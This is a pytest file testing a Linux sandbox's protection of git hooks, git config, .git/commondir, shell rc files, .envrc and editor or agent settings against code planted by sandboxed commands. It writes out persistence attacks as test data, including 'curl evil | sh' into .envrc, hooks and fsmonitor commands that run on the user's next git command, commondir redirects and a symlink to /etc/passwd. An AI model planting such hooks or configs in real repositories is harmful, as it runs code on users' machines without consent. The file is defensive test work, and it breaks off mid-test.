"""Protected by default: a sandboxed command cannot plant code the host runs later.

Inside every writable root, the names of hcp_linux.policy.protected (``.git/hooks``,
``.git/config``, shell rc files, ``.envrc``, editor and agent settings...) are read-only in
the mount view when they exist, and whatever appears at one that was missing is removed
after the run (a symlink changed is restored). Each attack is done for real inside the
sandbox and its effect checked on the host's disk afterwards; each has a negative control
(``--allow-write-protected``), where the very same command's write lands. Runs under both
executors (``--executor native|ctypes``) and as root and nobody (scripts/test-unprivileged).
"""
from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path
from typing import Callable

import pytest

import sandboxing
from sandboxing import (EXIT_REFUSED, TIMEOUT, assert_ok, caller_env, jail, out,  # noqa: F401
                        outside, read_receipt, run_cli, show, single_error_line, wait_for)

GIT_ENV = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com",
           "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com"}

#: The attack: a hook git runs on the user's next commit, and an fsmonitor command git runs
#: on the user's next `git status` (written by git itself, and by a plain append).
PLANT = r"""
printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
  && echo hook=ok || echo hook=denied
git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null && echo fsmonitor=ok || echo fsmonitor=denied
printf '[core]\n\thooksPath = /tmp\n' >> .git/config 2>/dev/null && echo append=ok || echo append=denied
"""


def _git(repo: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, timeout=TIMEOUT,
                          env={**os.environ, **GIT_ENV}, stdin=subprocess.DEVNULL)


def _repo(jail: Path) -> Path:
    """A real repository in the jail, with one commit."""
    assert _git(jail, "init", "-q").returncode == 0
    (jail / "README").write_text("hello\n")
    assert _git(jail, "add", "README").returncode == 0
    assert _git(jail, "commit", "-q", "-m", "first").returncode == 0
    return jail


def _envs(extra: dict[str, str] | None = None) -> list[str]:
    return [f"--env={k}={v}" for k, v in {**GIT_ENV, **(extra or {})}.items()]


def _statuses(text: str) -> dict[str, str]:
    return dict(line.split("=", 1) for line in text.splitlines() if "=" in line)


def test_git_hook_and_fsmonitor_are_not_planted(jail: Path, tmp_path: Path) -> None:
    repo = _repo(jail)
    config = (repo / ".git" / "config").read_bytes()
    receipt = tmp_path / "r.json"
    r = run_cli(repo, "sh", "-c", PLANT, extra=[*_envs(), "--receipt", receipt])
    assert r.returncode == 0, show(r)
    assert _statuses(out(r)) == {"hook": "denied", "fsmonitor": "denied", "append": "denied"}, \
        show(r)
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert (repo / ".git" / "config").read_bytes() == config
    protected = read_receipt(receipt)["protected"]
    assert protected[str(repo / ".git" / "hooks")] == "read-only bind"
    assert protected[str(repo / ".git" / "config")] == "read-only bind"


def test_allow_write_protected_lets_the_hook_land(jail: Path) -> None:
    """Negative control: the same command, with the opt-out for .git/hooks (by name) and
    .git/config (by path): both writes land."""
    repo = _repo(jail)
    config = (repo / ".git" / "config").read_bytes()
    r = run_cli(repo, "sh", "-c", PLANT, extra=[
        *_envs(), "--allow-write-protected", ".git/hooks",
        "--allow-write-protected", str(repo / ".git" / "config")])
    assert r.returncode == 0, show(r)
    assert _statuses(out(r)) == {"hook": "ok", "fsmonitor": "ok", "append": "ok"}, show(r)
    assert (repo / ".git" / "hooks" / "pre-commit").exists()
    assert (repo / ".git" / "config").read_bytes() != config


def test_git_commit_still_works(jail: Path) -> None:
    """Agents commit: objects, index, refs and logs stay writable."""
    repo = _repo(jail)
    script = "echo more > f && git add f && git commit -q -m second && git status --short"
    r = run_cli(repo, "sh", "-c", script, extra=_envs())
    assert r.returncode == 0, show(r)
    log = _git(repo, "log", "--format=%s")
    assert log.stdout.decode().split() == ["second", "first"], log
    assert _git(repo, "status", "--short").stdout == b""


def test_missing_envrc_is_removed_after_the_run(jail: Path, tmp_path: Path) -> None:
    """The sweep: a file, a directory tree and a symlink planted at missing names are gone
    after the run (``git``: the default's sweep, applied to ``.vscode`` too)."""
    receipt = tmp_path / "r.json"
    script = ("echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > "
              ".vscode/tasks.json && ln -s /etc/passwd .mcp.json && cat .envrc")
    r = run_cli(jail, "sh", "-c", script,
                extra=["--protect-missing", "git", "--receipt", receipt])
    assert r.returncode == 0, show(r)
    assert "curl evil" in out(r)  # written during the run
    for name in (".envrc", ".vscode", ".mcp.json"):
        assert not os.path.lexists(jail / name), name
    rec = read_receipt(receipt)
    for name in (".envrc", ".vscode", ".mcp.json"):
        assert rec["protected"][str(jail / name)] == "removed after the run"
        assert rec["protected_sweep"][str(jail / name)] == "removed", rec["protected_sweep"]
    assert str(jail / ".bashrc") not in rec["protected_sweep"]  # nothing appeared there


def test_missing_envrc_stays_when_allowed(jail: Path) -> None:
    """Negative control: the same command with the opt-out: the file stays."""
    r = run_cli(jail, "sh", "-c", "echo 'curl evil | sh' > .envrc",
                extra=["--allow-write-protected", ".envrc"])
    assert r.returncode == 0, show(r)
    assert (jail / ".envrc").read_text() == "curl evil | sh\n"


def test_bashrc_symlink_is_restored(jail: Path, tmp_path: Path) -> None:
    (jail / "dotfiles").mkdir()
    (jail / "dotfiles" / "bashrc").write_text("alias ll='ls -l'\n")
    (jail / ".bashrc").symlink_to("dotfiles/bashrc")
    receipt = tmp_path / "r.json"
    script = ("echo evil >> .bashrc; echo through=$?; rm .bashrc && echo evil > .bashrc "
              "&& echo replaced=ok")
    r = run_cli(jail, "sh", "-c", script, extra=["--receipt", receipt])
    assert r.returncode == 0, show(r)
    assert "replaced=ok" in out(r), show(r)
    assert "through=0" not in out(r), show(r)  # its target is read-only too
    assert os.readlink(jail / ".bashrc") == "dotfiles/bashrc"
    assert (jail / "dotfiles" / "bashrc").read_text() == "alias ll='ls -l'\n"
    rec = read_receipt(receipt)
    assert rec["protected"][str(jail / ".bashrc")] == "restored after the run"
    assert rec["protected_sweep"][str(jail / ".bashrc")] == "restored"


def test_bashrc_symlink_replaced_when_allowed(jail: Path) -> None:
    """Negative control: with the opt-out the replacement stays."""
    (jail / "dotfiles").mkdir()
    (jail / "dotfiles" / "bashrc").write_text("alias ll='ls -l'\n")
    (jail / ".bashrc").symlink_to("dotfiles/bashrc")
    r = run_cli(jail, "sh", "-c", "rm .bashrc && echo evil > .bashrc",
                extra=["--allow-write-protected", ".bashrc"])
    assert r.returncode == 0, show(r)
    assert not (jail / ".bashrc").is_symlink()
    assert (jail / ".bashrc").read_text() == "evil\n"


def test_gitdir_pointer_is_read_only(jail: Path, outside: Path) -> None:
    """``.git`` as a file names another repository (whose hooks git runs): read-only."""
    (jail / ".git").write_text(f"gitdir: {outside}\n")
    r = run_cli(jail, "sh", "-c", "echo 'gitdir: /tmp/evil' > .git; echo status=$?")
    assert r.returncode == 0, show(r)
    assert "status=0" not in out(r), show(r)
    assert (jail / ".git").read_text() == f"gitdir: {outside}\n"


def test_policy_file_in_the_jail_is_read_only(jail: Path) -> None:
    """The --policy file would widen the next run: read-only when it lies in the jail."""
    policy = jail / "hcp.toml"
    policy.write_text('allow_bins = ["sh"]\n')
    r = run_cli(jail, "sh", "-c", "echo 'write_roots = [\"/\"]' >> hcp.toml; echo status=$?",
                extra=["--policy", policy])
    assert r.returncode == 0, show(r)
    assert "status=0" not in out(r), show(r)
    assert policy.read_text() == 'allow_bins = ["sh"]\n'


def test_unknown_name_is_refused(jail: Path) -> None:
    r = run_cli(jail, "true", extra=["--allow-write-protected", ".foo"])
    assert r.returncode == EXIT_REFUSED, show(r)
    line = single_error_line(r)
    assert "allow_write_protected" in line and ".git/hooks" in line and ".envrc" in line


def test_existing_protected_names_are_cached_per_run(jail: Path) -> None:
    """What exists changes between runs (git init makes .git): the second run binds what
    the first one could not, and a fresh .git/hooks left by the first run is gone."""
    r = run_cli(jail, "sh", "-c", "git init -q && ls .git/hooks | head -1", extra=_envs())
    assert r.returncode == 0, show(r)
    assert out(r).strip(), show(r)  # git made samples during the run
    assert not (jail / ".git" / "hooks").exists()  # .git was missing: its hooks are not kept
    assert not (jail / ".git" / "config").exists()
    assert_ok(subprocess.run(["git", "-C", str(jail), "init", "-q"], capture_output=True,
                             timeout=TIMEOUT))
    r = run_cli(jail, "sh", "-c", "echo x > .git/hooks/pre-commit; echo status=$?")
    assert "status=0" not in out(r), show(r)
    assert not (jail / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize("flag", ["--write-root"])
def test_write_roots_are_protected_too(jail: Path, tmp_path: Path, flag: str) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / ".zshrc").write_text("# mine\n")
    r = run_cli(jail, "sh", "-c", f"echo evil >> {extra}/.zshrc; echo evil > {extra}/.profile",
                extra=[flag, extra])
    assert (extra / ".zshrc").read_text() == "# mine\n", show(r)
    assert not (extra / ".profile").exists()


def test_a_served_run_sweeps_too(tmp_path: Path, jail: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Through `hcp-linux serve` the client starts the sandbox, and sweeps after it; the
    served receipt says so (its served_by shows the server was used)."""
    import sandboxing
    from test_serve import start_server, stop_server
    monkeypatch.setattr(sandboxing, "EXECUTOR_ARGS", [])  # the server plans for hcp-exec
    server = start_server(tmp_path)
    try:
        (jail / ".profile").symlink_to("/dev/null")
        receipt = tmp_path / "r.json"
        r = run_cli(jail, "sh", "-c", "echo evil > .envrc; rm .profile; echo x > .profile; "
                    "mkdir sub && echo evil > sub/.envrc",
                    extra=["--receipt", receipt], env=server.env())
    finally:
        stop_server(server)
    assert r.returncode == 0, show(r)
    rec = read_receipt(receipt)
    assert "served_by" in rec
    assert not os.path.lexists(jail / ".envrc")
    assert not os.path.lexists(jail / "sub" / ".envrc")  # the after-run search's, served
    assert os.readlink(jail / ".profile") == "/dev/null"
    assert rec["protected_sweep"] == {str(jail / ".envrc"): "removed",
                                      str(jail / ".profile"): "restored",
                                      str(jail / "sub" / ".envrc"): "removed"}


def test_without_a_mount_view_the_sweep_is_all(jail: Path, tmp_path: Path) -> None:
    """No namespaces (unshare denied, --allow-degraded namespaces): nothing can be bound,
    what appears at a missing name is still removed, and the receipt says what is left."""
    import errno

    from sandboxing import deny_run_cli
    (jail / ".bashrc").write_text("# mine\n")
    receipt = tmp_path / "r.json"
    r = deny_run_cli(["unshare"], errno.EPERM, jail, "sh", "-c", "echo evil > .envrc",
                     extra=["--allow-degraded", "namespaces", "--receipt", receipt])
    assert r.returncode == 0, show(r)
    rec = read_receipt(receipt)
    assert rec["namespaces"] == []
    assert not (jail / ".envrc").exists()
    assert rec["protected"][str(jail / ".envrc")] == \
        "removed after the run (no mount view: the sweep is the only protection)"
    assert rec["protected"][str(jail / ".bashrc")] == "writable: no mount view to make it read-only"
    assert rec["protected_sweep"] == {str(jail / ".envrc"): "removed"}


#: The redirect around a read-only .git/config: .git/commondir names another directory, and
#: git reads the repository's config (core.fsmonitor) from there.
COMMONDIR = r"""
mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ \
  && printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch pwned-by-fsmonitor; false"\n' > evil/config \
  && echo ../evil > .git/commondir && echo commondir=ok || echo commondir=denied
"""


@pytest.mark.parametrize("mode", ["git", "sweep", "allowed"])
def test_a_commondir_redirect_is_not_left_for_the_host(jail: Path, mode: str) -> None:
    """By default (``protect_missing = "quiet"``) the missing commondir gets its placeholder
    (``.``) and the redirect cannot even be written; with ``sweep`` it is written and gone
    after the run; negative control: opted out, it stays and git runs the command."""
    repo = _repo(jail)
    extra = {"git": [], "sweep": ["--protect-missing", "sweep"],
             "allowed": ["--allow-write-protected", ".git/commondir"]}[mode]
    r = run_cli(repo, "sh", "-c", COMMONDIR, extra=[*_envs(), *extra])
    assert r.returncode == 0, show(r)
    assert _statuses(out(r))["commondir"] == ("denied" if mode == "git" else "ok"), show(r)
    # the user's next `git status` on the host
    _git(repo, "status")
    planted = (repo / "pwned-by-fsmonitor").exists()
    commondir = repo / ".git" / "commondir"
    if mode == "allowed":  # negative control: the redirect works, git ran the command
        assert commondir.exists() and planted
    elif mode == "git":
        assert commondir.read_bytes() == b".\n" and not planted
    else:
        assert not commondir.exists() and not planted


# --- protect_missing = "placeholders": a missing name cannot be created during the run -----

#: Plants at missing names, then reports and waits (the test looks at the host meanwhile).
PLANT_MISSING = r"""
echo 'curl evil | sh' > .envrc 2>/dev/null && echo envrc=ok || echo envrc=denied
mkdir -p .claude 2>/dev/null; echo '{"hooks": 1}' > .claude/settings.json 2>/dev/null \
  && echo claude=ok || echo claude=denied
ln -s /etc/passwd .mcp.json 2>/dev/null && echo mcp=ok || echo mcp=denied
echo planted
read line
"""


def _plant_and_look(jail: Path, extra: list) -> tuple[dict[str, str], dict[str, bytes | None],
                                                      subprocess.CompletedProcess]:
    """Run PLANT_MISSING; while it waits on stdin, read what the host sees at each name;
    then let it end. Returns (its statuses, the host's view mid-run, the finished run)."""
    from sandboxing import hcp_argv, kill_by_pid
    proc = subprocess.Popen(hcp_argv(jail, "sh", "-c", PLANT_MISSING, extra=extra),
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, cwd="/")
    try:
        assert proc.stdout is not None and proc.stdin is not None
        lines = []
        while True:
            line = proc.stdout.readline().decode()
            assert line, proc.stderr.read() if proc.stderr else ""
            if line.strip() == "planted":
                break
            lines.append(line)
        seen: dict[str, bytes | None] = {}
        for name in (".envrc", ".claude/settings.json", ".mcp.json"):
            p = jail / name
            seen[name] = (b"<link>" if p.is_symlink() else p.read_bytes()) \
                if os.path.lexists(p) else None
        stdout, stderr = proc.communicate(b"go\n", timeout=TIMEOUT)
    finally:
        kill_by_pid(proc)
    done = subprocess.CompletedProcess(proc.args, proc.returncode, stdout, stderr)
    return _statuses("".join(lines)), seen, done


def test_placeholders_keep_missing_names_uncreatable_during_the_run(jail: Path,
                                                                    tmp_path: Path) -> None:
    receipt = tmp_path / "r.json"
    statuses, seen, r = _plant_and_look(
        jail, ["--protect-missing", "placeholders", "--receipt", receipt])
    assert r.returncode == 0, show(r)
    assert statuses == {"envrc": "denied", "claude": "denied", "mcp": "denied"}, statuses
    # mid-run, the host sees the empty placeholders, never the planted content
    assert seen == {".envrc": b"", ".claude/settings.json": None, ".mcp.json": b""}, seen
    assert (jail / ".claude").is_dir() and not any((jail / ".claude").iterdir())
    protected = read_receipt(receipt)["protected"]
    for name in (".envrc", ".claude", ".mcp.json"):
        assert protected[str(jail / name)].startswith("read-only bind (placeholder made"), \
            protected
    # the placeholders stay: the next run binds them as existing names (and reuses its cache)
    receipt2 = tmp_path / "r2.json"
    r2 = run_cli(jail, "sh", "-c", "echo x > .envrc", extra=[
        "--protect-missing", "placeholders", "--receipt", receipt2])
    assert r2.returncode != 0 and (jail / ".envrc").read_bytes() == b"", show(r2)
    assert read_receipt(receipt2)["protected"][str(jail / ".envrc")] == "read-only bind"


def test_the_sweep_leaves_a_window_during_the_run(jail: Path, tmp_path: Path) -> None:
    """Negative control, and the documented trade-off of ``git``: with the sweep the planted
    files exist on the host while the run lasts, and are gone after it."""
    receipt = tmp_path / "r.json"
    statuses, seen, r = _plant_and_look(jail, ["--protect-missing", "git",
                                               "--receipt", receipt])
    assert r.returncode == 0, show(r)
    assert statuses == {"envrc": "ok", "claude": "ok", "mcp": "ok"}, statuses
    assert seen == {".envrc": b"curl evil | sh\n", ".claude/settings.json": b'{"hooks": 1}\n',
                    ".mcp.json": b"<link>"}, seen
    for name in (".envrc", ".claude", ".mcp.json"):
        assert not os.path.lexists(jail / name), name


def test_the_default_keeps_editor_and_agent_directories_uncreatable(jail: Path,
                                                                    tmp_path: Path) -> None:
    """By default (``quiet``) the directories an editor or agent reads while the run goes on
    get empty placeholders: ``.claude/settings.json`` cannot be planted even mid-run (the
    host reads nothing there), and git shows nothing of them. The files are the sweep's:
    planted mid-run (the documented window), gone after. Negative control:
    ``test_the_sweep_leaves_a_window_during_the_run``, where ``.claude`` lands."""
    repo = _repo(jail)
    receipt = tmp_path / "r.json"
    statuses, seen, r = _plant_and_look(repo, ["--receipt", receipt])
    assert r.returncode == 0, show(r)
    assert statuses == {"envrc": "ok", "claude": "denied", "mcp": "ok"}, statuses
    assert seen == {".envrc": b"curl evil | sh\n", ".claude/settings.json": None,
                    ".mcp.json": b"<link>"}, seen
    for name in (".envrc", ".mcp.json"):
        assert not os.path.lexists(repo / name), name
    protected = read_receipt(receipt)["protected"]
    for name in (".vscode", ".idea", ".claude", ".cursor"):
        assert (repo / name).is_dir() and not any((repo / name).iterdir()), name
        assert protected[str(repo / name)] == \
            "read-only bind (placeholder made by protect_missing)", protected
    for name in (".envrc", ".mcp.json", ".ssh", ".bashrc"):
        assert protected[str(repo / name)] == "removed after the run", protected
    status = _git(repo, "status", "--porcelain", "--untracked-files=all")
    assert status.returncode == 0 and status.stdout == b"", status
    add = _git(repo, "add", "-A", "--dry-run")
    assert add.returncode == 0 and add.stdout == b"", add


def test_placeholder_commondir_keeps_git_working(jail: Path) -> None:
    """``.git/commondir`` gets ``.`` (the repository itself): git on the host and in the
    sandbox works as before, and the redirect around .git/config cannot be planted."""
    repo = _repo(jail)
    r = run_cli(repo, "sh", "-c", COMMONDIR + "echo more > f && git add f && "
                "git commit -q -m second && echo commit=ok",
                extra=[*_envs(), "--protect-missing", "placeholders"])
    assert r.returncode == 0, show(r)
    assert _statuses(out(r)) == {"commondir": "denied", "commit": "ok"}, show(r)
    assert (repo / ".git" / "commondir").read_bytes() == b".\n"
    _git(repo, "status")
    assert not (repo / "pwned-by-fsmonitor").exists()
    log = _git(repo, "log", "--format=%s")
    assert log.returncode == 0 and log.stdout.decode().split() == ["second", "first"], log
    status = _git(repo, "status", "--short", "--untracked-files=all")
    untracked = {line[3:] for line in status.stdout.decode().splitlines()}
    assert status.returncode == 0 and "evil/config" in untracked, status
    # the placeholders show as untracked empty files (the documented cost of the mode)
    for name in untracked - {"evil/config", "evil/HEAD"} - {
            n for n in untracked if n.startswith("evil/")}:
        assert (repo / name).read_bytes() == b"", name


def test_placeholders_never_make_dot_git(jail: Path) -> None:
    """``git init`` in the sandbox still works (no empty .git in its way); what it made is
    swept as before (a repository without hooks or config)."""
    r = run_cli(jail, "sh", "-c", "git init -q && echo init=ok",
                extra=["--protect-missing", "placeholders"])
    assert r.returncode == 0 and "init=ok" in out(r), show(r)
    assert (jail / ".git").is_dir() and not (jail / ".git" / "hooks").exists()


def test_a_placeholder_that_cannot_be_made_refuses_the_run(jail: Path, tmp_path: Path) -> None:
    """Fail closed: no placeholder, no run (one line naming the path), nothing spawned."""
    if os.geteuid() == 0:
        pytest.skip("as root a directory's mode does not stop mkdir; nobody's leg runs it")
    git = jail / ".git"
    git.mkdir()
    git.chmod(0o555)  # .git/hooks cannot be made in it
    proof = jail / "ran"
    try:
        r = run_cli(jail, "sh", "-c", f"touch {proof}",
                    extra=["--protect-missing", "placeholders"])
    finally:
        git.chmod(0o755)
    line = single_error_line(r)
    assert r.returncode == EXIT_REFUSED, show(r)
    assert f"protect_missing: cannot make the placeholder {git}/hooks" in line, line
    assert not proof.exists() and not (git / "hooks").exists()


def test_protect_missing_is_checked(jail: Path) -> None:
    r = run_cli(jail, "true", extra=["--protect-missing", "always"])
    assert r.returncode != 0 and "--protect-missing" in r.stderr.decode(), show(r)


# --- below the top level: nested repositories, submodules, worktrees, subprojects ----------

def _attack_statuses(r: subprocess.CompletedProcess) -> dict[str, str]:
    assert r.returncode == 0, show(r)
    return _statuses(out(r))


@pytest.mark.parametrize("allowed", [False, True], ids=["protected", "allowed"])
def test_a_nested_repository_is_protected(jail: Path, allowed: bool) -> None:
    """A vendored repository two levels down: its hooks and config are the user's next
    `git commit` there. Negative control: the opt-out by name covers nested ones too."""
    repo = _repo(jail)
    (repo / "lib" / "vendored").mkdir(parents=True)
    sub = _repo(repo / "lib" / "vendored")
    config = (sub / ".git" / "config").read_bytes()
    extra = ["--allow-write-protected", ".git/hooks",
             "--allow-write-protected", ".git/config"] if allowed else []
    r = run_cli(repo, "sh", "-c", "cd lib/vendored && " + PLANT, extra=[*_envs(), *extra])
    want = "ok" if allowed else "denied"
    assert _attack_statuses(r) == {"hook": want, "fsmonitor": want, "append": want}, show(r)
    assert (sub / ".git" / "hooks" / "pre-commit").exists() == allowed
    assert ((sub / ".git" / "config").read_bytes() == config) != allowed


#: A submodule's git directory lives in the superproject's .git/modules: its config's
#: fsmonitor runs on `git status` there; its missing commondir would redirect it.
SUBMODULE = r"""
git -C lib config core.fsmonitor 'touch pwned-by-fsmonitor; false' 2>/dev/null \
  && echo fsmonitor=ok || echo fsmonitor=denied
printf '#!/bin/sh\ntouch pwned-by-hook\n' > .git/modules/lib/hooks/post-checkout 2>/dev/null \
  && echo hook=ok || echo hook=denied
echo ../../evil > .git/modules/lib/commondir && echo commondir=written || echo commondir=denied
"""


@pytest.mark.parametrize("allowed", [False, True], ids=["protected", "allowed"])
def test_a_submodules_git_directory_is_protected(jail: Path, allowed: bool) -> None:
    repo = _repo(jail)
    (repo / "lib").mkdir()
    (repo / ".git" / "modules").mkdir()
    made = _git(repo / "lib", "init", "-q", f"--separate-git-dir={repo}/.git/modules/lib")
    assert made.returncode == 0, made
    assert (repo / "lib" / ".git").is_file()  # the layout `git submodule` makes
    extra = ["--allow-write-protected", ".git/config", "--allow-write-protected", ".git/hooks",
             "--allow-write-protected", ".git/commondir"] if allowed else []
    r = run_cli(repo, "sh", "-c", SUBMODULE, extra=[*_envs(), *extra])
    statuses = _attack_statuses(r)
    commondir = repo / ".git" / "modules" / "lib" / "commondir"
    if allowed:  # negative control: every write lands, and git on the host runs the command
        assert statuses == {"fsmonitor": "ok", "hook": "ok", "commondir": "written"}, show(r)
        assert commondir.exists()
        commondir.unlink()  # the redirect would hide the planted config from the host's git
        _git(repo / "lib", "status")
        assert (repo / "lib" / "pwned-by-fsmonitor").exists()
    else:  # the missing commondir got its placeholder (`.`: the git directory itself)
        assert statuses == {"fsmonitor": "denied", "hook": "denied",
                            "commondir": "denied"}, show(r)
        assert commondir.read_bytes() == b".\n"
        assert not (repo / ".git" / "modules" / "lib" / "hooks" / "post-checkout").exists()
        _git(repo / "lib", "status")
        assert not (repo / "lib" / "pwned-by-fsmonitor").exists()


def test_a_worktrees_commondir_cannot_be_redirected(jail: Path, tmp_path: Path) -> None:
    """A linked worktree reads .git/worktrees/NAME/commondir to find its config and hooks:
    rewritten, the user's git in the worktree would use a repository the run planted."""
    repo = _repo(jail)
    made = _git(repo, "worktree", "add", "-q", str(repo / "wt"))
    assert made.returncode == 0, made
    commondir = repo / ".git" / "worktrees" / "wt" / "commondir"
    before = commondir.read_bytes()
    receipt = tmp_path / "r.json"
    r = run_cli(repo, "sh", "-c", "echo ../../../evil > .git/worktrees/wt/commondir "
                "&& echo commondir=ok || echo commondir=denied",
                extra=["--receipt", receipt])
    assert _attack_statuses(r) == {"commondir": "denied"}, show(r)
    assert commondir.read_bytes() == before
    assert read_receipt(receipt)["protected"][str(commondir)] == "read-only bind"
    # negative control: unconfined, the same write lands
    subprocess.run(["sh", "-c", "echo ../../../evil > .git/worktrees/wt/commondir"],
                   cwd=repo, check=True)
    assert commondir.read_bytes() != before


#: Writes an existing .envrc at each depth; reports which landed.
DEPTHS = r"""
for d in a a/b a/b/c a/b/c/d; do
  echo 'curl evil | sh' >> $d/.envrc 2>/dev/null && echo $d=ok || echo $d=denied
done
"""


@pytest.mark.parametrize("depth", [None, 0, 1], ids=["default", "top-only", "one"])
def test_existing_names_are_protected_down_to_protect_depth(jail: Path, tmp_path: Path,
                                                            depth: int | None) -> None:
    """A subproject's .envrc (direnv runs it on `cd`) down to protect_depth levels (default
    3): read-only; below it (and at depth 0 below the top) the same write lands."""
    for d in ("a", "a/b", "a/b/c", "a/b/c/d"):
        (jail / d).mkdir(parents=True, exist_ok=True)
        (jail / d / ".envrc").write_text("export A=1\n")
    extra = [] if depth is None else ["--protect-depth", str(depth)]
    receipt = tmp_path / "r.json"
    r = run_cli(jail, "sh", "-c", DEPTHS, extra=[*extra, "--receipt", receipt])
    limit = 3 if depth is None else depth
    want = {d: "denied" if d.count("/") + 1 <= limit else "ok"
            for d in ("a", "a/b", "a/b/c", "a/b/c/d")}
    assert _attack_statuses(r) == want, show(r)
    protected = read_receipt(receipt)["protected"]
    for d, status in want.items():
        changed = (jail / d / ".envrc").read_text() != "export A=1\n"
        assert changed == (status == "ok"), d
        assert (protected.get(str(jail / d / ".envrc")) == "read-only bind") == \
            (status == "denied"), (d, protected)


def test_the_search_does_not_enter_a_symlink_or_a_dependency_tree(jail: Path,
                                                                  tmp_path: Path,
                                                                  outside: Path) -> None:
    (outside / ".envrc").write_text("x\n")
    (jail / "link").symlink_to(outside)
    (jail / "node_modules" / "pkg").mkdir(parents=True)
    (jail / "node_modules" / "pkg" / ".envrc").write_text("x\n")
    receipt = tmp_path / "r.json"
    r = run_cli(jail, "true", extra=["--receipt", receipt])
    assert r.returncode == 0, show(r)
    protected = read_receipt(receipt)["protected"]
    assert not [p for p in protected if "/link/" in p or "node_modules" in p], protected


def test_a_search_over_budget_says_where_it_stopped(jail: Path, tmp_path: Path) -> None:
    from hcp_linux.policy.protected.search import SEARCH_BUDGET
    many = jail / "many"
    many.mkdir()
    for i in range(SEARCH_BUDGET + 8):
        (many / f"d{i:05}").mkdir()
    (jail / "a").mkdir()
    (jail / "a" / ".envrc").write_text("export A=1\n")  # listed before "many": protected
    receipt = tmp_path / "r.json"
    r = run_cli(jail, "sh", "-c", "echo x >> a/.envrc", extra=["--receipt", receipt])
    assert r.returncode != 0 and (jail / "a" / ".envrc").read_text() == "export A=1\n", show(r)
    stopped = read_receipt(receipt)["protected_search"]
    assert stopped[str(jail)].startswith(f"stopped after {SEARCH_BUDGET} directories"), stopped


@pytest.mark.parametrize("value", ["-1", "17", "two"])
def test_protect_depth_is_checked(jail: Path, value: str) -> None:
    proof = jail / "ran"
    r = run_cli(jail, "touch", str(proof), extra=[f"--protect-depth={value}"])
    line = single_error_line(r)
    assert r.returncode != 0 and "protect-depth" in line.replace("_", "-"), show(r)
    assert not proof.exists()


@pytest.mark.parametrize("mode", ["quiet", "sweep"])
def test_missing_git_names_get_invisible_placeholders_by_default(jail: Path, mode: str) -> None:
    """A repository without hooks (a clone with an empty template): by default the hook
    cannot be written even while the run lasts (a placeholder directory, read-only), and
    `git status` stays clean. Negative control, ``sweep``: the write lands, and is gone
    after the run."""
    import shutil
    repo = _repo(jail)
    shutil.rmtree(repo / ".git" / "hooks")
    extra = [] if mode == "quiet" else ["--protect-missing", "sweep"]
    r = run_cli(repo, "sh", "-c", "mkdir -p .git/hooks && printf '#!/bin/sh\\n' > "
                ".git/hooks/pre-commit && echo hook=ok || echo hook=denied", extra=extra)
    assert _attack_statuses(r) == {"hook": "denied" if mode == "quiet" else "ok"}, show(r)
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert (repo / ".git" / "hooks").is_dir() == (mode == "quiet")
    status = _git(repo, "status", "--porcelain", "--untracked-files=all")
    assert status.returncode == 0 and status.stdout == b"", status


def test_a_listing_kept_between_runs_never_hides_a_new_name(jail: Path) -> None:
    """Listings are kept between runs of one process while their directory's ctime holds:
    a name made since (its directory's mtime even set back, as a run could) is found and
    protected in the next run. Negative control: with protect_depth 0 the write lands."""
    import time

    from hcp_linux import Policy, Sandbox
    sub = jail / "a"
    sub.mkdir()
    before = sub.stat()
    time.sleep(1.2)  # older than the clock's coarseness margin: its listing is kept
    box = Sandbox(Policy(jail=str(jail)))
    assert box.run(["true"]).returncode == 0  # lists a/ (and keeps the listing)
    (sub / ".envrc").write_text("export A=1\n")
    os.utime(sub, ns=(before.st_atime_ns, before.st_mtime_ns))  # mtime back; ctime moves
    r = box.run(["sh", "-c", "echo 'curl evil | sh' >> a/.envrc"], cwd=str(jail),
                capture_output=True)
    assert r.returncode != 0 and (sub / ".envrc").read_text() == "export A=1\n", r
    shallow = Sandbox(Policy(jail=str(jail), protect_depth=0))
    r = shallow.run(["sh", "-c", "echo 'curl evil | sh' >> a/.envrc"], cwd=str(jail),
                    capture_output=True)
    assert r.returncode == 0 and "curl" in (sub / ".envrc").read_text(), r


def test_a_placeholder_belongs_to_the_owner_of_its_directory(jail: Path) -> None:
    """A root runtime making a placeholder in a user's repository gives it to the user (the
    owner of the directory holding it): the user's own git can add a hook afterwards."""
    import shutil
    repo = _repo(jail)
    shutil.rmtree(repo / ".git" / "hooks")
    owner = (repo / ".git").stat()
    r = run_cli(repo, "true", extra=["--protect-missing", "placeholders"])
    assert r.returncode == 0, show(r)
    for name in (".git/hooks", ".git/commondir", ".envrc"):
        st = (repo / name).lstat()
        assert (st.st_uid, st.st_gid) == (owner.st_uid, owner.st_gid), name
    if os.geteuid() == 0:  # the same, for a repository of another user
        nobody = 65534
        for path in [repo, *repo.rglob("*")]:
            os.lchown(path, nobody, nobody)
        for name in (".git/hooks", ".git/commondir", ".envrc"):
            p = repo / name
            p.rmdir() if p.is_dir() else p.unlink()
        r = run_cli(repo, "true", extra=["--protect-missing", "placeholders"])
        assert r.returncode == 0, show(r)
        for name in (".git/hooks", ".git/commondir", ".envrc"):
            st = (repo / name).lstat()
            assert (st.st_uid, st.st_gid) == (nobody, nobody), name


def test_found_is_a_frozen_hashable_value() -> None:
    """Found keys the confinement cache: equal by its fields, hashable, frozen, and copied
    or pickled whole (it is written out by hand, not a dataclass: issue 35)."""
    import copy
    import pickle

    from hcp_linux.policy.protected import Found
    a = Found(read_only=("/j/.git/hooks",), how=(("/j/.git/hooks", "read-only bind"),),
